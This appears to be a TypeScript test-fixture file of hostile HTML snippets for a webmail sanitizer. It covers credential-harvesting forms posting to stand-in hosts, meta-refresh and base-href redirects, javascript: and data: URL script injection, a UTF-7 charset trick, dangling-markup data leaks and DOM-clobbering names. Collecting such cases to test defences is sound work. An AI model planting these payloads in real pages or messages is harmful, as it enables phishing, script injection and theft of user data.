// What sends the reader away, asks for secrets, or shadows names of the page.
import type { Row } from './corpus.ts'

export const MARKUP: Readonly<Record<string, readonly Row[]>> = {
  forms: [
    ['post', '<form action=http://f.c.test/x method=post><input name=p type=password><button>x</button></form>'],
    ['button elsewhere', '<form id=f action=http://f.c.test/x></form><button form=f>x</button>'],
    ['formaction', '<form><input type=submit formaction=http://f.c.test/x></form>'],
    ['isindex', '<isindex action=http://f.c.test/x prompt=x>'],
    ['dialog', '<dialog open><form method=dialog><button>x</button></form></dialog>'],
    ['keygen', '<form action=http://f.c.test/x><keygen name=k><select name=s><option selected>1</select></form>'],
    [
      'label',
      '<label for=x>x<input id=x type=checkbox></label><fieldset><legend>x</legend><output>y</output></fieldset>',
    ],
  ],
  refresh: [
    ['plain', '<meta http-equiv=refresh content="0;url=http://r.c.test/">'],
    ['javascript', '<meta http-equiv=refresh content="0;url=javascript:alert(1)">'],
    ['data', '<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">'],
    ['in the head', '<head><meta http-equiv="Refresh" content="0; http://r.c.test/"></head>'],
    ['cookie', '<meta http-equiv=set-cookie content="webmailsession=x">'],
    ['policy', `<meta http-equiv=Content-Security-Policy content="img-src *"><img src=http://r.c.test/p>`],
    ['referrer', '<meta name=referrer content=unsafe-url><a href=http://r.c.test/>x</a>'],
    [
      'charset',
      '<meta charset=utf-7><meta http-equiv=content-type content="text/html; charset=utf-7">+ADw-script+AD4-alert(1)',
    ],
    ['color scheme', '<meta name=color-scheme content=dark><meta name=viewport content="width=9999">'],
  ],
  base: [
    ['href', '<base href=http://b.c.test/><img src=i.png><a href=x>x</a>'],
    ['javascript', '<base href="javascript:/a/-alert(1)///"><a href=../x>x</a>'],
    ['target', '<base target=_top><a href=http://b.c.test/>x</a>'],
    ['late', '<p>x<base href="//b.c.test/"><link rel=stylesheet href=s.css>'],
  ],
  embed: [
    ['iframe', '<iframe src=http://e.c.test/></iframe>'],
    ['srcdoc', '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'],
    ['data frame', '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>'],
    ['object', '<object data=http://e.c.test/o type=text/html></object>'],
    [
      'object svg',
      '<object data="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\'><script>alert(1)</script></svg>"></object>',
    ],
    ['embed', '<embed src=http://e.c.test/e><embed src="javascript:alert(1)">'],
    ['applet', '<applet code=x archive=http://e.c.test/a.jar codebase=http://e.c.test/></applet>'],
    ['frameset', '<html><frameset><frame src=http://e.c.test/f></frameset></html>'],
    ['own pages', '<iframe src="/webmail/"></iframe><iframe src="../../"></iframe>'],
    ['open iframe', '<iframe src="http://e.c.test/?'],
    ['dangling image', "<img src='http://e.c.test/?leak="],
    [
      'declarative shadow root',
      '<div><template shadowrootmode=open><script>alert(1)</script><img src=http://e.c.test/s></template></div>',
    ],
  ],
  clobbering: [
    ['forms', '<form id=document><input name=cookie></form><form name=location><input id=href></form>'],
    ['two anchors', '<a id=config></a><a id=config name=url href=http://d.c.test/></a>'],
    ['image names', '<img name=getElementById><img name=body><img id=querySelector>'],
    ['exports', '<a id=module></a><iframe name=self></iframe><object name=parent></object>'],
    ['prototype', '<p __proto__=x constructor=y toString=z id=__proto__>x</p>'],
    [
      'class of the page',
      '<div class="mail text head" id=app data-test=1 aria-label=x role=alert slot=x is=x part=x>x</div>',
    ],
  ],
}
